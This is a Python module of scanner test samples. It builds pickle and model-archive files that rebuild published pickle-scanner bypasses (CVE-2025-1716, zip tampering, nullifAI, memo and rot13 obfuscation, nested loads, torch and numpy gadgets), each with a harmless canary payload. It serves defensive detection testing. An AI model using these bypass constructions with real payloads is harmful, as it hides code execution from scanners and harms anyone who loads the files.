"""One sample per published scanner bypass, each a faithful rebuild with a harmless canary.

Every builder takes the folder to write into and a canary path, and returns the file it wrote.
The payload, if a loader ever ran it, would only create the canary file (by `exec`-ing a tiny
`open(...).write(...)`, or by running `touch`), so a test can prove nothing ran. The streams
are assembled opcode by opcode with `pickle_bytes`; nothing is pickled from a real object
except the benign joblib container, whose placeholder is then swapped for the payload.
"""

from __future__ import annotations

import base64
import codecs
import io
import shlex
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from airlock.findings import Severity
from samples import archives
from samples import pickle_bytes as P

Builder = Callable[[Path, Path], Path]


@dataclass(frozen=True)
class Sample:
    name: str
    # The CVE, advisory or report the sample rebuilds.
    reference: str
    build: Builder
    # The rule that must fire, at `severity` or above.
    rule: str = "AIR101"
    severity: Severity = Severity.CRITICAL
    # Text that must appear in the evidence of a finding raised inside a nested payload.
    nested: str | None = None
    # Further rules that must also fire, at any severity (e.g. AIR201 for a tampered zip).
    also: tuple[str, ...] = ()
    # The reader the sample needs besides the pickle reader ("zip", "7z", "numpy").
    needs: str | None = None
    # True for raw pickle streams that `pickletools` can disassemble end to end.
    well_formed: bool = False


# Canary payloads ---------------------------------------------------------------------------


def canary_code(canary: Path) -> str:
    """Python source that would create the canary file."""
    return f"open({str(canary)!r}, 'w').write('fired')"


def canary_shell(canary: Path) -> str:
    """A shell command that would create the canary file."""
    return f"touch {shlex.quote(str(canary))}"


def exec_call(canary: Path) -> bytes:
    """`builtins.exec(<canary code>)` in protocol 0-3 opcodes (GLOBAL, MARK, TUPLE, REDUCE)."""
    return P.call_global("builtins", "exec", P.binunicode(canary_code(canary)))


def exec_pickle(canary: Path) -> bytes:
    """A complete protocol 2 pickle whose only effect is the canary `exec`."""
    return P.pickle2(exec_call(canary))


def system_pickle4(canary: Path) -> bytes:
    """`os.system("touch <canary>")` the way protocol 4 writes a reduce: STACK_GLOBAL, MEMOIZE."""
    return P.pickle4(P.call_stack_global("os", "system", P.short_binunicode(canary_shell(canary))))


def benign_dict_pickle() -> bytes:
    """`{"step": 1}` as torch.save's protocol 2 pickler writes it."""
    return P.pickle2(
        P.empty_dict() + P.binput(0) + P.mark() + P.binunicode("step") + P.binint1(1) + P.setitems()
    )


def _raw(filename: str, make: Callable[[Path], bytes]) -> Builder:
    def build(directory: Path, canary: Path) -> Path:
        path = directory / filename
        path.write_bytes(make(canary))
        return path

    return build


# CVE-2025-1716: pip.main ------------------------------------------------------------------


def _pip_args(canary: Path) -> bytes:
    # pip writes its --log file before it fails to find the package: the log is the canary.
    args = ["install", "--quiet", "--no-index", "--log", str(canary), "airlock-canary-no-such-pkg"]
    return P.mark() + b"".join(P.binunicode(a) for a in args) + P.list_()


def pip_main(canary: Path) -> bytes:
    return P.pickle2(
        P.global_("pip", "main") + P.mark() + _pip_args(canary) + P.tuple_() + P.reduce()
    )


def pip_internal_main(canary: Path) -> bytes:
    return P.pickle4(P.call_stack_global("pip._internal.cli.main", "main", _pip_args(canary)))


# Zip-based bypasses (CVE-2025-1889, -1944, -1945, -10155, -10156) ---------------------------

TORCH_PICKLE = "archive/data.pkl"


def torch_zip_extra_member(canary: Path) -> bytes:
    """A normal PyTorch zip, plus a pickle stored under a name no pickle extension matches."""
    members = {
        TORCH_PICKLE: benign_dict_pickle(),
        "archive/byteorder": b"little",
        "archive/data/extra.weights": exec_pickle(canary),
        "archive/version": b"3\n",
    }
    return archives.zip_bytes(members)


def torch_zip_payload(canary: Path) -> bytes:
    return archives.torch_zip(exec_pickle(canary))


def zip_name_mismatch(canary: Path) -> bytes:
    # zipfile refuses a local name that differs from the central one; PyTorch reads the central.
    return archives.rename_local(torch_zip_payload(canary), TORCH_PICKLE, "archive/datap.kl")


def zip_flags(flags: int) -> Callable[[Path], bytes]:
    def make(canary: Path) -> bytes:
        return archives.set_flags(torch_zip_payload(canary), TORCH_PICKLE, flags)

    return make


def zip_bad_crc(canary: Path) -> bytes:
    return archives.break_crc(torch_zip_payload(canary), TORCH_PICKLE)


# CVE-2025-10157: a submodule of a blocked package ------------------------------------------


def asyncio_unix_events(canary: Path) -> bytes:
    # _UnixSubprocessTransport._start(self, args, shell, stdin, stdout, stderr, bufsize)
    # runs subprocess.Popen(args, shell=shell) before it touches `self`.
    args = (
        P.none()
        + P.short_binunicode(canary_shell(canary))
        + P.newtrue()
        + P.none() * 3
        + P.binint1(0)
    )
    return P.pickle4(
        P.call_stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start", args)
    )


def multiprocessing_util(canary: Path) -> bytes:
    # multiprocessing.util.spawnv_passfds(path, args, passfds) forks and execs `path`.
    args = (
        P.binunicode("/usr/bin/touch")
        + P.mark()
        + P.binunicode("touch")
        + P.binunicode(str(canary))
        + P.list_()
        + P.empty_tuple()
    )
    return P.pickle2(
        P.global_("multiprocessing.util", "spawnv_passfds")
        + P.mark()
        + args
        + P.tuple_()
        + P.reduce()
    )


# nullifAI: the payload runs, then the stream breaks ----------------------------------------


def broken_bad_opcode(canary: Path) -> bytes:
    return P.proto(2) + exec_call(canary) + b"\xff" + b"corrupt tail"


def broken_truncated(canary: Path) -> bytes:
    # A BINUNICODE that declares 4096 bytes where 3 remain: the loader fails reading it.
    return P.proto(2) + exec_call(canary) + b"X" + struct.pack("<I", 4096) + b"abc"


def nullifai_zip(canary: Path) -> bytes:
    return archives.torch_zip(broken_bad_opcode(canary))


def nullifai_7z(canary: Path) -> bytes:
    return archives.seven_zip_bytes(TORCH_PICKLE, broken_bad_opcode(canary))


# Memo-obfuscated STACK_GLOBAL --------------------------------------------------------------


def memo_dict_values(canary: Path) -> bytes:
    """Module and name are stored as values of an innocent dict, then fetched from the memo."""
    body = (
        P.empty_dict() + P.memoize()  # memo 0
        + P.mark()
        + P.short_binunicode("module") + P.memoize()  # 1
        + P.short_binunicode("os") + P.memoize()  # 2
        + P.short_binunicode("function") + P.memoize()  # 3
        + P.short_binunicode("system") + P.memoize()  # 4
        + P.setitems()
        + P.short_binunicode("result")
        + P.binget(2) + P.binget(4) + P.stack_global()
        + P.short_binunicode(canary_shell(canary)) + P.tuple1() + P.reduce()
        + P.setitem()
    )  # fmt: skip
    return P.pickle4(body)


def memo_long_binget(canary: Path) -> bytes:
    """The strings sit at memo indexes past 255 and come back through LONG_BINGET."""
    body = (
        P.short_binunicode("builtins") + P.long_binput(300) + P.pop()
        + P.short_binunicode("exec") + P.long_binput(70000) + P.pop()
        + P.long_binget(300) + P.long_binget(70000) + P.stack_global()
        + P.short_binunicode(canary_code(canary)) + P.tuple1() + P.reduce()
    )  # fmt: skip
    return P.pickle4(body)


def memo_overwrite(canary: Path) -> bytes:
    """A memo slot first holds a harmless name, then is overwritten (the picklescan memo bug)."""
    body = (
        P.empty_list() + P.binput(10) + P.mark()
        + P.binunicode("collections") + P.binput(0)
        + P.binunicode("OrderedDict") + P.binput(1)
        + P.stack_global() + P.empty_tuple() + P.reduce()
        + P.binunicode("os") + P.binput(0) + P.pop()
        + P.binunicode("system") + P.binput(1) + P.pop()
        + P.binget(0) + P.binget(1) + P.stack_global()
        + P.binunicode(canary_shell(canary)) + P.tuple1() + P.reduce()
        + P.appends()
    )  # fmt: skip
    return P.proto(4) + body + P.stop()


def memo_computed_names(canary: Path) -> bytes:
    """The names are computed while loading (rot13-decoded), so no scanner can read them."""
    rot13 = P.binunicode("rot13")
    body = (
        P.global_("_codecs", "decode") + P.binput(0)
        + P.mark() + P.binunicode("bf") + rot13 + P.tuple_() + P.reduce()  # "os"
        + P.binget(0)
        + P.mark() + P.binunicode("flfgrz") + rot13 + P.tuple_() + P.reduce()  # "system"
        + P.stack_global()
        + P.binunicode(canary_shell(canary)) + P.tuple1() + P.reduce()
    )  # fmt: skip
    return P.proto(4) + body + P.stop()


# Nested pickles -----------------------------------------------------------------------------


def _loads(module: str, name: str, argument: bytes) -> bytes:
    return P.global_(module, name) + P.mark() + argument + P.tuple_() + P.reduce()


def nested_raw(canary: Path) -> bytes:
    return P.proto(3) + _loads("pickle", "loads", P.binbytes(exec_pickle(canary))) + P.stop()


def nested_base64(canary: Path) -> bytes:
    encoded = base64.b64encode(exec_pickle(canary)).decode()
    inner = _loads("base64", "b64decode", P.binunicode(encoded))
    return P.proto(3) + _loads("_pickle", "loads", inner) + P.stop()


def nested_hex(canary: Path) -> bytes:
    inner = _loads("binascii", "unhexlify", P.binunicode(exec_pickle(canary).hex()))
    return P.proto(3) + _loads("pickle", "loads", inner) + P.stop()


def nested_zlib(canary: Path) -> bytes:
    inner = _loads("zlib", "decompress", P.binbytes(zlib.compress(exec_pickle(canary))))
    return P.proto(3) + _loads("pickle", "loads", inner) + P.stop()


def nested_two_stages(canary: Path) -> bytes:
    stage2 = (
        P.proto(3)
        + _loads(
            "pickle",
            "loads",
            _loads("zlib", "decompress", P.binbytes(zlib.compress(exec_pickle(canary)))),
        )
        + P.stop()
    )
    encoded = base64.b64encode(stage2).decode()
    outer = _loads("base64", "b64decode", P.binunicode(encoded))
    return P.proto(3) + _loads("pickle", "loads", outer) + P.stop()


def _partial_with_kwargs(module: str, name: str, key: str) -> bytes:
    """functools.partial(module.name, key=True), built the way partial pickles (BUILD state)."""
    return (
        P.global_("functools", "partial")
        + P.mark() + P.global_(module, name) + P.tuple_() + P.reduce()
        + P.mark() + P.global_(module, name) + P.empty_tuple()
        + P.empty_dict() + P.mark() + P.binunicode(key) + P.newtrue() + P.setitems()
        + P.none() + P.tuple_() + P.build()
    )  # fmt: skip


def nested_torch_load(canary: Path) -> bytes:
    # torch.load(io.BytesIO(...), weights_only=False): the legacy loader unpickles the stream.
    stream = _loads("io", "BytesIO", P.binbytes(exec_pickle(canary)))
    call = _partial_with_kwargs("torch", "load", "weights_only")
    return P.proto(3) + call + P.mark() + stream + P.tuple_() + P.reduce() + P.stop()


def nested_numpy_load(canary: Path) -> bytes:
    # numpy.load(io.BytesIO(...), allow_pickle=True) hands bytes without the npy magic to pickle.
    stream = _loads("io", "BytesIO", P.binbytes(exec_pickle(canary)))
    call = _partial_with_kwargs("numpy", "load", "allow_pickle")
    return P.proto(3) + call + P.mark() + stream + P.tuple_() + P.reduce() + P.stop()


# Calls through INST, OBJ, NEWOBJ, NEWOBJ_EX ------------------------------------------------


def call_inst(canary: Path) -> bytes:
    return P.mark() + P.string(canary_shell(canary)) + P.inst("os", "system") + P.put(0) + P.stop()


def call_obj(canary: Path) -> bytes:
    body = P.mark() + P.global_("builtins", "exec") + P.binunicode(canary_code(canary)) + P.obj()
    return body + P.binput(0) + P.stop()


def _argv(canary: Path) -> bytes:
    return P.mark() + P.binunicode("touch") + P.binunicode(str(canary)) + P.list_()


def call_newobj(canary: Path) -> bytes:
    body = P.global_("subprocess", "Popen") + _argv(canary) + P.tuple1() + P.newobj()
    return P.pickle2(body)


def call_newobj_ex(canary: Path) -> bytes:
    body = (
        P.short_binunicode("subprocess") + P.short_binunicode("Popen") + P.stack_global()
        + P.empty_tuple()
        + P.empty_dict() + P.mark() + P.short_binunicode("args") + _argv(canary) + P.setitems()
        + P.newobj_ex()
    )  # fmt: skip
    return P.pickle4(body)


# BUILD-based attribute overwrite ------------------------------------------------------------


def _trigger_rebuild(canary: Path) -> bytes:
    # What torch.load later calls for every tensor: now the swapped-in exec.
    return P.call_global("torch._utils", "_rebuild_tensor", P.binunicode(canary_code(canary)))


def build_module_dict(canary: Path) -> bytes:
    """BUILD with a dict state on a module updates its __dict__: torch._utils._rebuild_tensor."""
    body = (
        P.global_("torch", "_utils")
        + P.empty_dict() + P.mark()
        + P.binunicode("_rebuild_tensor") + P.global_("builtins", "exec")
        + P.setitems() + P.build() + P.pop()
        + _trigger_rebuild(canary)
    )  # fmt: skip
    return P.pickle2(body)


def build_class_slotstate(canary: Path) -> bytes:
    """BUILD with (None, slotstate) calls setattr on a class: torch.nn.Module.__call__ = exec."""
    body = (
        P.global_("torch.nn.modules.module", "Module")
        + P.none()
        + P.empty_dict() + P.mark()
        + P.binunicode("__call__") + P.global_("builtins", "exec")
        + P.setitems() + P.tuple2() + P.build()
    )  # fmt: skip
    return P.pickle2(body)


# Extension registry codes -------------------------------------------------------------------


def extension(opcode: Callable[[int], bytes], code: int) -> Callable[[Path], bytes]:
    def make(canary: Path) -> bytes:
        body = (
            opcode(code) + P.mark() + P.binunicode(canary_shell(canary)) + P.tuple_() + P.reduce()
        )
        return P.pickle2(body)

    return make


# getattr chains ------------------------------------------------------------------------------


def getattr_import(canary: Path) -> bytes:
    """builtins.getattr(builtins.__import__("os"), "system")(cmd)."""
    module = P.call_global("builtins", "__import__", P.binunicode("os"))
    function = P.global_("builtins", "getattr") + P.mark() + module + P.binunicode("system")
    body = function + P.tuple_() + P.reduce() + P.mark() + P.binunicode(canary_shell(canary))
    return P.pickle2(body + P.tuple_() + P.reduce())


def attrgetter_import_module(canary: Path) -> bytes:
    """operator.attrgetter("system")(importlib.import_module("os"))(cmd)."""
    getter = P.call_global("operator", "attrgetter", P.binunicode("system"))
    module = P.call_global("importlib", "import_module", P.binunicode("os"))
    body = getter + P.mark() + module + P.tuple_() + P.reduce()
    return P.pickle2(body + P.mark() + P.binunicode(canary_shell(canary)) + P.tuple_() + P.reduce())


# Protocol variants ---------------------------------------------------------------------------


def protocol0(canary: Path) -> bytes:
    body = P.global_("os", "system") + P.put(0) + P.mark() + P.string(canary_shell(canary))
    return body + P.tuple_() + P.reduce() + P.put(1) + P.stop()


def protocol1(canary: Path) -> bytes:
    body = P.global_("os", "system") + P.binput(0) + P.mark() + P.binunicode(canary_shell(canary))
    return body + P.binput(1) + P.tuple_() + P.binput(2) + P.reduce() + P.binput(3) + P.stop()


def protocol2_posix(canary: Path) -> bytes:
    body = P.global_("posix", "system") + P.binput(0) + P.binunicode(canary_shell(canary))
    return P.pickle2(body + P.binput(1) + P.tuple1() + P.reduce())


def protocol2_python2_name(canary: Path) -> bytes:
    # Protocol < 3 names are mapped from Python 2: __builtin__.eval is builtins.eval.
    expression = f"__import__('os').system({canary_shell(canary)!r})"
    return P.pickle2(P.call_global("__builtin__", "eval", P.binunicode(expression)))


def protocol3_bytes(canary: Path) -> bytes:
    body = P.global_("os", "system") + P.short_binbytes(canary_shell(canary).encode())
    return P.proto(3) + body + P.tuple1() + P.reduce() + P.stop()


def protocol5(canary: Path) -> bytes:
    body = P.call_stack_global("subprocess", "getoutput", P.short_binunicode(canary_shell(canary)))
    return P.framed(body + P.stop(), 5)


# Several pickles back to back ----------------------------------------------------------------

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def _legacy_streams(payload: bytes) -> list[bytes]:
    magic = P.pickle2(P.long1(LEGACY_MAGIC))
    version = P.pickle2(P.binint2(1001))
    sizes = (
        P.empty_dict() + P.binput(1) + P.mark()
        + P.binunicode("short") + P.binint1(2)
        + P.binunicode("int") + P.binint1(4)
        + P.binunicode("long") + P.binint1(4)
        + P.setitems()
    )  # fmt: skip
    sys_info = P.pickle2(
        P.empty_dict() + P.binput(0) + P.mark()
        + P.binunicode("protocol_version") + P.binint2(1001)
        + P.binunicode("little_endian") + P.newtrue()
        + P.binunicode("type_sizes") + sizes
        + P.setitems()
    )  # fmt: skip
    storage = (
        P.mark() + P.binunicode("storage") + P.global_("torch", "FloatStorage")
        + P.binunicode("0") + P.binunicode("cpu") + P.binint1(4) + P.tuple_() + P.binpersid()
    )  # fmt: skip
    tensor = (
        P.global_("torch._utils", "_rebuild_tensor_v2")
        + P.mark() + storage + P.binint1(0) + P.binint1(4) + P.tuple1() + P.binint1(1) + P.tuple1()
        + P.newfalse() + P.global_("collections", "OrderedDict") + P.empty_tuple() + P.reduce()
        + P.tuple_() + P.reduce()
    )  # fmt: skip
    state = P.pickle2(P.empty_dict() + P.binunicode("weight") + tensor + P.setitem())
    keys = P.pickle2(P.mark() + P.binunicode("0") + P.list_())
    return [magic, version, sys_info, state, keys]


def _storage_bytes() -> bytes:
    return struct.pack("<q", 4) + b"\x00" * 16


def legacy_payload_in(index: int) -> Callable[[Path], bytes]:
    """A legacy (pre-1.6) torch.save file with the payload in pickle number `index` (1-based)."""

    def make(canary: Path) -> bytes:
        streams = _legacy_streams(b"")
        if index == 1:
            streams[0] = exec_pickle(canary)
        elif index == 3:
            streams[2] = (
                streams[2][:-1] + P.binunicode("x") + exec_call(canary) + P.setitem() + P.stop()
            )
        elif index == 5:
            streams[4] = P.pickle2(P.mark() + P.binunicode("0") + exec_call(canary) + P.list_())
        return b"".join(streams) + _storage_bytes()

    return make


def back_to_back(canary: Path) -> bytes:
    return benign_dict_pickle() + P.pickle2(P.empty_list()) + system_pickle4(canary)


# Gadgets inside trusted packages ------------------------------------------------------------


def torch_collect_env(canary: Path) -> bytes:
    call = P.call_global("torch.utils.collect_env", "run", P.binunicode(canary_shell(canary)))
    return P.pickle2(call)


def pkgutil_resolve_name(canary: Path) -> bytes:
    function = P.call_global("pkgutil", "resolve_name", P.binunicode("os:system"))
    return P.pickle2(
        function + P.mark() + P.binunicode(canary_shell(canary)) + P.tuple_() + P.reduce()
    )


def numpy_runstring(canary: Path) -> bytes:
    args = P.binunicode(canary_code(canary)) + P.empty_dict()
    return P.pickle2(P.call_global("numpy.testing._private.utils", "runstring", args))


def _protocol0_exec(canary: Path) -> str:
    """A protocol 0 pickle (all ASCII) that runs the canary `exec`, as text."""
    head = P.global_("builtins", "exec") + P.mark() + P.unicode_(canary_code(canary))
    return head.decode("ascii") + "tR."


def torch_load_from_bytes(canary: Path) -> bytes:
    """torch.storage._load_from_bytes(b) is torch.load(io.BytesIO(b), weights_only=False)."""
    call = P.call_global("torch.storage", "_load_from_bytes", P.binbytes(exec_pickle(canary)))
    return P.proto(3) + call + P.stop()


def torch_load_from_bytes_rot13(canary: Path) -> bytes:
    """The same gadget fed through allowlisted `_codecs.encode` only: rot13, then latin-1."""
    hidden = codecs.encode(_protocol0_exec(canary), "rot13")
    text = P.call_global("_codecs", "encode", P.binunicode(hidden), P.binunicode("rot13"))
    data = P.call_global("_codecs", "encode", text, P.binunicode("latin1"))
    return P.pickle2(P.call_global("torch.storage", "_load_from_bytes", data))


def import_side_effect(canary: Path) -> bytes:
    """Importing `antigravity` opens a web browser: a reference alone runs code."""
    return P.pickle2(P.global_("antigravity", "geohash"))


# joblib and NumPy containers ----------------------------------------------------------------

_PLACEHOLDER = "AIRLOCK-PAYLOAD-PLACEHOLDER"


def joblib_payload(canary: Path) -> bytes:
    """A real joblib.dump of a dict with an array; the value after the array becomes the payload."""
    import joblib
    import numpy

    out = io.BytesIO()
    joblib.dump({"weights": numpy.arange(16, dtype="<i8"), "meta": _PLACEHOLDER}, out, protocol=2)
    data = out.getvalue()
    raw = _PLACEHOLDER.encode()
    for op in (P.binunicode(_PLACEHOLDER), b"U" + bytes([len(raw)]) + raw):
        if op in data:
            return data.replace(op, exec_call(canary), 1)
    raise AssertionError("joblib wrote the placeholder in an unexpected way")


def npy_object_payload(canary: Path) -> bytes:
    """An object-dtype .npy whose pickled body is the payload (numpy.load(allow_pickle=True))."""
    return archives.npy_bytes("|O", (1,), P.proto(3) + exec_call(canary) + P.stop())


# The catalogue -------------------------------------------------------------------------------

SAMPLES: tuple[Sample, ...] = (
    Sample(
        "cve-2025-1716-pip-main", "CVE-2025-1716", _raw("model.pkl", pip_main), well_formed=True
    ),
    Sample(
        "cve-2025-1716-pip-internal",
        "CVE-2025-1716",
        _raw("model.pkl", pip_internal_main),
        well_formed=True,
    ),
    Sample(
        "cve-2025-1889-odd-extension",
        "CVE-2025-1889",
        _raw("model.weights", exec_pickle),
        well_formed=True,
    ),
    Sample(
        "cve-2025-1889-zip-member",
        "CVE-2025-1889",
        _raw("model.pt", torch_zip_extra_member),
        needs="zip",
    ),
    Sample(
        "cve-2025-1944-name-mismatch",
        "CVE-2025-1944",
        _raw("pytorch_model.bin", zip_name_mismatch),
        also=("AIR201",),
        needs="zip",
    ),
    Sample(
        "cve-2025-1945-flag-0x1",
        "CVE-2025-1945",
        _raw("pytorch_model.bin", zip_flags(0x1)),
        also=("AIR201",),
        needs="zip",
    ),
    Sample(
        "cve-2025-1945-flag-0x20",
        "CVE-2025-1945",
        _raw("pytorch_model.bin", zip_flags(0x20)),
        also=("AIR201",),
        needs="zip",
    ),
    Sample(
        "cve-2025-1945-flag-0x40",
        "CVE-2025-1945",
        _raw("pytorch_model.bin", zip_flags(0x40)),
        also=("AIR201",),
        needs="zip",
    ),
    Sample(
        "cve-2025-10155-pickle-as-bin",
        "CVE-2025-10155",
        _raw("pytorch_model.bin", exec_pickle),
        well_formed=True,
    ),
    Sample(
        "cve-2025-10155-pickle-as-pt",
        "CVE-2025-10155",
        _raw("model.pt", system_pickle4),
        well_formed=True,
    ),
    Sample(
        "cve-2025-10155-zip-as-txt",
        "CVE-2025-10155",
        _raw("model.txt", torch_zip_payload),
        needs="zip",
    ),
    Sample(
        "cve-2025-10155-zip-as-pkl",
        "CVE-2025-10155",
        _raw("model.pkl", torch_zip_payload),
        needs="zip",
    ),
    Sample(
        "cve-2025-10156-bad-crc",
        "CVE-2025-10156",
        _raw("pytorch_model.bin", zip_bad_crc),
        also=("AIR201",),
        needs="zip",
    ),
    Sample(
        "cve-2025-10157-asyncio-unix-events",
        "CVE-2025-10157",
        _raw("model.pkl", asyncio_unix_events),
        well_formed=True,
    ),
    Sample(
        "cve-2025-10157-multiprocessing-util",
        "CVE-2025-10157",
        _raw("model.pkl", multiprocessing_util),
        well_formed=True,
    ),
    Sample("nullifai-bad-opcode", "nullifAI (ReversingLabs)", _raw("model.pkl", broken_bad_opcode)),
    Sample("nullifai-truncated", "nullifAI (ReversingLabs)", _raw("model.pkl", broken_truncated)),
    Sample(
        "nullifai-broken-in-zip",
        "nullifAI (ReversingLabs)",
        _raw("pytorch_model.bin", nullifai_zip),
        needs="zip",
    ),
    Sample(
        "nullifai-7z",
        "nullifAI (ReversingLabs)",
        _raw("pytorch_model.bin", nullifai_7z),
        # Airlock does not unpack 7z: it must say the archive could not be inspected.
        rule="AIR002",
        severity=Severity.HIGH,
        needs="7z",
    ),
    Sample(
        "memo-dict-values",
        "picklescan memo bypass",
        _raw("model.pkl", memo_dict_values),
        well_formed=True,
    ),
    Sample(
        "memo-long-binget",
        "picklescan memo bypass",
        _raw("model.pkl", memo_long_binget),
        well_formed=True,
    ),
    Sample(
        "memo-overwrite",
        "picklescan issue #22 (memo)",
        _raw("model.pkl", memo_overwrite),
        # pickletools refuses a memo key stored twice; the real unpickler overwrites it.
    ),
    Sample(
        "memo-computed-names",
        "dynamic STACK_GLOBAL",
        _raw("model.pkl", memo_computed_names),
        rule="AIR103",
        severity=Severity.HIGH,
        well_formed=True,
    ),
    Sample(
        "nested-raw",
        "GHSA-84r2-jw7c-4r5q",
        _raw("model.pkl", nested_raw),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "nested-base64",
        "modelaudit nested_pickle_base64",
        _raw("model.pkl", nested_base64),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "nested-hex",
        "modelaudit nested_pickle_hex",
        _raw("model.pkl", nested_hex),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "nested-zlib",
        "nested compressed pickle",
        _raw("model.pkl", nested_zlib),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "nested-two-stages",
        "modelaudit nested_pickle_multistage",
        _raw("model.pkl", nested_two_stages),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "nested-torch-load",
        "nested torch.load",
        _raw("model.pkl", nested_torch_load),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "nested-numpy-load",
        "nested numpy.load",
        _raw("model.pkl", nested_numpy_load),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample("call-inst", "INST opcode", _raw("model.pkl", call_inst), well_formed=True),
    Sample("call-obj", "OBJ opcode", _raw("model.pkl", call_obj), well_formed=True),
    Sample("call-newobj", "NEWOBJ opcode", _raw("model.pkl", call_newobj), well_formed=True),
    Sample(
        "call-newobj-ex", "NEWOBJ_EX opcode", _raw("model.pkl", call_newobj_ex), well_formed=True
    ),
    Sample(
        "build-module-dict",
        "picklescan sys_module_override_sploit",
        _raw("model.pkl", build_module_dict),
        rule="AIR104",
        well_formed=True,
    ),
    Sample(
        "build-class-slotstate",
        "BUILD setattr",
        _raw("model.pkl", build_class_slotstate),
        rule="AIR104",
        well_formed=True,
    ),
    Sample(
        "ext1",
        "EXT1 opcode",
        _raw("model.pkl", extension(P.ext1, 0x21)),
        rule="AIR105",
        severity=Severity.HIGH,
        well_formed=True,
    ),
    Sample(
        "ext2",
        "EXT2 opcode",
        _raw("model.pkl", extension(P.ext2, 0x1234)),
        rule="AIR105",
        severity=Severity.HIGH,
        well_formed=True,
    ),
    Sample(
        "ext4",
        "EXT4 opcode",
        _raw("model.pkl", extension(P.ext4, 0x12345678)),
        rule="AIR105",
        severity=Severity.HIGH,
        well_formed=True,
    ),
    Sample("getattr-import", "getattr chain", _raw("model.pkl", getattr_import), well_formed=True),
    Sample(
        "attrgetter-import-module",
        "GHSA-955r-x9j8-7rhh",
        _raw("model.pkl", attrgetter_import_module),
        well_formed=True,
    ),
    Sample("protocol-0", "protocol 0", _raw("model.pkl", protocol0), well_formed=True),
    Sample("protocol-1", "protocol 1", _raw("model.pkl", protocol1), well_formed=True),
    Sample("protocol-2-posix", "posix alias", _raw("model.pkl", protocol2_posix), well_formed=True),
    Sample(
        "protocol-2-python2-name",
        "__builtin__ alias",
        _raw("model.pkl", protocol2_python2_name),
        well_formed=True,
    ),
    Sample("protocol-3-bytes", "protocol 3", _raw("model.pkl", protocol3_bytes), well_formed=True),
    Sample("protocol-4", "protocol 4", _raw("model.pkl", system_pickle4), well_formed=True),
    Sample("protocol-5", "protocol 5", _raw("model.pkl", protocol5), well_formed=True),
    Sample(
        "legacy-torch-payload-1st",
        "multiple pickles (legacy torch.save)",
        _raw("pytorch_model.bin", legacy_payload_in(1)),
    ),
    Sample(
        "legacy-torch-payload-3rd",
        "multiple pickles (legacy torch.save)",
        _raw("pytorch_model.bin", legacy_payload_in(3)),
    ),
    Sample(
        "legacy-torch-payload-5th",
        "multiple pickles (legacy torch.save)",
        _raw("pytorch_model.bin", legacy_payload_in(5)),
    ),
    Sample(
        "back-to-back-3rd", "modelaudit multiple_stream_attack", _raw("model.pkl", back_to_back)
    ),
    Sample(
        "gadget-torch-collect-env",
        "GHSA (torch.utils.collect_env.run)",
        _raw("model.pkl", torch_collect_env),
        well_formed=True,
    ),
    Sample(
        "gadget-pkgutil-resolve-name",
        "GHSA (pkgutil.resolve_name)",
        _raw("model.pkl", pkgutil_resolve_name),
        well_formed=True,
    ),
    Sample(
        "gadget-numpy-runstring",
        "GHSA (numpy.testing runstring)",
        _raw("model.pkl", numpy_runstring),
        well_formed=True,
    ),
    Sample(
        "gadget-torch-load-from-bytes",
        "torch.storage._load_from_bytes gadget",
        _raw("model.pkl", torch_load_from_bytes),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "gadget-torch-load-from-bytes-rot13",
        "torch.storage._load_from_bytes gadget, allowlisted codecs only",
        _raw("model.pkl", torch_load_from_bytes_rot13),
        nested="builtins.exec",
        well_formed=True,
    ),
    Sample(
        "import-side-effect-antigravity",
        "import-time side effects",
        _raw("model.pkl", import_side_effect),
        well_formed=True,
    ),
    Sample("joblib-payload", "joblib container", _raw("model.joblib", joblib_payload)),
    Sample(
        "npy-object-payload",
        "picklescan dns_exfiltration.npy",
        _raw("embeddings.npy", npy_object_payload),
        needs="numpy",
    ),
)
